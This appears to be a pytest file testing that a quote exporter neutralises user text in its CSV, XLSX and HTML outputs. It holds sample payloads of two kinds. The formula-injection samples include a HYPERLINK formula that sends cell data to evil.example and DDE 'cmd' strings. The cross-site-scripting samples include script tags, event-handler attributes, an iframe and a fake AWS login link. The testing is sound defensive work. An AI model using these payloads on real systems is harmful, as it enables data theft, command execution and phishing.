"""Exports a customer can open safely: no user text becomes a live spreadsheet formula (CSV, XLSX)
or a live HTML tag, attribute or link (report). Every file is read back with its own library."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from models.costs.money import QuoteSettings
from models.design.schema import DesignError, parse_design
from models.design.text import dump_design_text, load_design_data
from render.quote import build_report, quote_csv, quote_html, quote_xlsx, tables
from render.quote.cells import csv_cell, starts_like_formula, xlsx_text
from templates import template_text

TODAY = date(2026, 11, 28)
JPY_TAX = QuoteSettings("JPY", Decimal(150), Decimal(10))

NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'
DESCRIPTION = "+cmd|' /C calc'!A0"
GSI = "@SUM(1+1)*cmd|' /C calc'!A0"
LABEL = "-2+3"
SOURCE = "  =1+1"
TABBED = "\t=WEBSERVICE(\"http://evil.example\")"
HOSTILE = [NAME, DESCRIPTION, GSI, LABEL, SOURCE, TABBED, "\r=1+1", "＝1+1", "=1+1"]


def hostile_design() -> dict:
    data = load_design_data(template_text("save_app_data"))
    data["name"] = NAME
    data["description"] = DESCRIPTION
    data["components"][1]["label"] = LABEL
    data["components"][2]["gsis"] = [{"name": GSI, "reads": 1}, {"name": TABBED, "reads": 1}]
    data["limits"] = {"source": SOURCE, "lambda_concurrency": 1000}
    return data


def hostile_report(lang: str = "en"):
    return build_report(hostile_design(), settings=JPY_TAX, lang=lang, today=TODAY)


def test_the_hostile_design_is_a_valid_design():
    # otherwise the export tests below would test nothing
    parse_design(hostile_design())


@pytest.mark.parametrize("text, dangerous", [
    ("=1+1", True), ("+1+1", True), ("+1", False), ("-2+3", True), ("@SUM(A1)", True), ("\t1", True), ("\r1", True),
    ("   =1+1", True), ("\u3000=1", True), ("＝1+1", True), ("＠x", True), (" \t x", True),
    ("-5", False), ("-1,000.50", False), ("+3e5", False), ("Photo app", False), ("", False), ("a=b", False),
    ("写真アプリ", False), ("   ", False), ("- list item", True),
])
def test_which_text_a_spreadsheet_would_run(text, dangerous):
    assert starts_like_formula(text) is dangerous


def test_a_csv_cell_is_quoted_only_when_it_could_run():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("  @x") == "'  @x"
    assert csv_cell("Photo") == "Photo"
    assert csv_cell(-5.0) == -5.0 and csv_cell(None) == ""


def test_an_id_a_spreadsheet_would_run_is_refused_by_the_design_itself():
    data = hostile_design()
    data["components"][0]["id"] = "=cmd"
    with pytest.raises(DesignError):
        parse_design(data)


def _all_cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_the_workbook_holds_hostile_text_as_text_never_a_formula(lang):
    book = load_workbook(io.BytesIO(quote_xlsx(hostile_report(lang))))
    cells = list(_all_cells(book))
    assert cells
    formulas = [(title, c.coordinate, c.value) for title, c in cells if c.data_type == "f"]
    assert formulas == []
    values = [c.value for _, c in cells]
    for text in (NAME, DESCRIPTION, GSI, LABEL, SOURCE):
        found = [c for _, c in cells if c.value == text]
        assert found, f"{text!r} is not in the workbook as the user typed it"
        assert all(c.data_type == "s" and c.quotePrefix for c in found)
    assert not any(isinstance(v, str) and v.startswith("'=") for v in values)  # the user's text, unchanged
    # a user's URL-looking text is never a hyperlink; only the price catalog's sources are
    links = [c.hyperlink.target for _, c in cells if c.hyperlink is not None]
    assert links and not any("evil.example" in target for target in links)


def test_negative_amounts_stay_numbers_in_the_workbook():
    book = load_workbook(io.BytesIO(quote_xlsx(hostile_report())))
    sheet = book["Line items"]
    header = [c.value for c in sheet[1]]
    amount = header.index("Amount (JPY, rounded)")
    values = [row[amount].value for row in sheet.iter_rows(min_row=2) if row[amount].value is not None]
    negatives = [v for v in values if isinstance(v, (int, float)) and v < 0]
    assert negatives, "the free tier should give negative amounts to check"
    assert all(isinstance(v, (int, float)) for v in values)
    assert all(row[amount].data_type == "n" for row in sheet.iter_rows(min_row=2) if row[amount].value is not None)


def test_control_characters_do_not_break_the_workbook():
    data = hostile_design()
    data["name"] = "bell\x07 and nul\x00 name"
    book = load_workbook(io.BytesIO(quote_xlsx(build_report(data, settings=JPY_TAX, lang="en", today=TODAY))))
    assert book["Summary"]["B4"].value == "bell\ufffd and nul\ufffd name"


def _hostile_rows(monkeypatch):
    """Put hostile text where the design's validation never lets it reach (component ids, services,
    labels, notes), so the writers themselves are shown to neutralise every text cell."""
    original_lines, original_checks = tables.line_rows, tables.check_rows
    original_totals, original_notes = tables.total_rows, tables.notes
    texts = iter(HOSTILE * 1000)

    def lines(report, case="expected"):
        return [[next(texts), next(texts)] + row[2:] for row in original_lines(report, case)]

    def checks(report):
        return [[row[0], row[1], next(texts)] + row[3:] for row in original_checks(report)]

    def totals(report):
        return [(next(texts), amount, next(texts)) for _, amount, _ in original_totals(report)]

    def notes(report):
        return [next(texts) for _ in original_notes(report)]

    for module in ("render.quote.tables", "render.quote.csv_export"):
        monkeypatch.setattr(f"{module}.line_rows", lines)
        monkeypatch.setattr(f"{module}.total_rows", totals)
        monkeypatch.setattr(f"{module}.notes", notes)
    monkeypatch.setattr("render.quote.tables.check_rows", checks)


def test_the_workbook_neutralises_every_text_cell_the_writers_get(monkeypatch):
    _hostile_rows(monkeypatch)
    book = load_workbook(io.BytesIO(quote_xlsx(hostile_report())))
    cells = [c for _, c in _all_cells(book)]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    seen = {c.value for c in cells}
    assert {xlsx_text(text) for text in HOSTILE} <= seen
    assert "\n=1+1" in seen  # a bare CR is stored as the line break every reader shows
    line_items = book["Line items"]
    assert line_items["A2"].value in {xlsx_text(text) for text in HOSTILE}
    risky = [c for c in cells if isinstance(c.value, str) and starts_like_formula(c.value)]
    assert len(risky) > len(HOSTILE) and all(c.data_type == "s" and c.quotePrefix for c in risky)


def _csv_rows(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_the_csv_writes_hostile_text_behind_a_quote_and_numbers_as_numbers(monkeypatch):
    _hostile_rows(monkeypatch)
    report = hostile_report()
    table = _csv_rows(quote_csv(report))
    cells = [v for row in table for v in row if v]
    assert not [v for v in cells if starts_like_formula(v)]  # nothing a spreadsheet would run
    for text in HOSTILE:
        assert "'" + text in cells
    amount = table[0].index("Amount (JPY, rounded)")
    body = table[1:1 + len(report.quote.lines)]
    amounts = [float(r[amount]) for r in body]  # plain numbers, no quote in front
    assert any(a < 0 for a in amounts)
    assert sum(Decimal(r[amount]) for r in body) == report.quote.subtotal


def test_cli_quote_csv_of_a_hostile_file_is_safe(tmp_path, capsysbinary):
    from commands.main import main

    path = tmp_path / "hostile.yaml"
    path.write_text(dump_design_text(hostile_design()), encoding="utf-8")
    target = tmp_path / "q.csv"
    assert main(["quote", str(path), "--format", "csv", "--output", str(target)]) == 0
    cells = [v for row in _csv_rows(target.read_bytes()) for v in row if v]
    assert cells and not [v for v in cells if starts_like_formula(v)]
    xlsx = tmp_path / "q.xlsx"
    assert main(["quote", str(path), "--format", "xlsx", "--output", str(xlsx)]) == 0
    book = load_workbook(xlsx)
    assert [c.coordinate for _, c in _all_cells(book) if c.data_type == "f"] == []
    assert book["Summary"]["B4"].value == NAME


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []
        self.style: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_style = tag == "style"

    def handle_endtag(self, tag):
        if tag == "style":
            self._in_style = False

    def handle_data(self, data):
        (self.style if self._in_style else self.text).append(data)


HTML_HOSTILE = {
    "name": '</title></style><script>alert(1)</script>"><img src=x onerror=alert(2)>',
    "description": ("![logo](https://evil.example/pixel.png) [Your AWS session expired — log in]"
                    "(https://evil.example/login) <a href='https://evil.example'>x</a> "
                    "<svg onload=alert(3)> https://evil.example/plain"),
    "label": '" onmouseover="alert(4)',
    "gsi": "<iframe src=https://evil.example>",
}


def _parsed(data: dict, lang: str = "en") -> _Tags:
    parser = _Tags()
    parser.feed(quote_html(build_report(data, settings=JPY_TAX, lang=lang, today=TODAY)))
    parser.close()
    return parser


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_the_report_has_no_live_tag_or_attribute_from_user_text(lang):
    clean = _parsed(load_design_data(template_text("save_app_data")), lang)
    data = hostile_design()
    data["name"] = HTML_HOSTILE["name"]
    data["description"] = HTML_HOSTILE["description"]
    data["components"][1]["label"] = HTML_HOSTILE["label"]
    data["components"][2]["gsis"][0]["name"] = HTML_HOSTILE["gsi"]
    data["limits"]["source"] = "https://evil.example/limits"
    hostile = _parsed(data, lang)
    # the same kinds of tags as a harmless design's report: nothing added by the user's text
    assert {tag for tag, _ in hostile.tags} == {tag for tag, _ in clean.tags}
    assert not {"script", "img", "iframe"} & {tag for tag, _ in hostile.tags}
    assert sum(tag == "svg" for tag, _ in hostile.tags) == 1  # the chart only
    attrs = [(tag, name, value or "") for tag, attributes in hostile.tags for name, value in attributes]
    assert not [a for a in attrs if a[1].startswith("on")]
    assert not [a for a in attrs if "evil.example" in a[2]]
    links = [value for tag, name, value in attrs if tag == "a" and name == "href"]
    assert links and all(link.startswith("https://") and "evil" not in link for link in links)
    # the style block is exactly the stylesheet (a "</style>" in a name does not end it early)
    assert len(hostile.style) == 1 and hostile.style == clean.style
    text = "".join(hostile.text)
    # (the GSI name was shown in the design-inputs table, which the customer report no longer prints)
    for value in (HTML_HOSTILE["name"], HTML_HOSTILE["description"]):
        assert value in text  # shown to the reader as the text the user typed
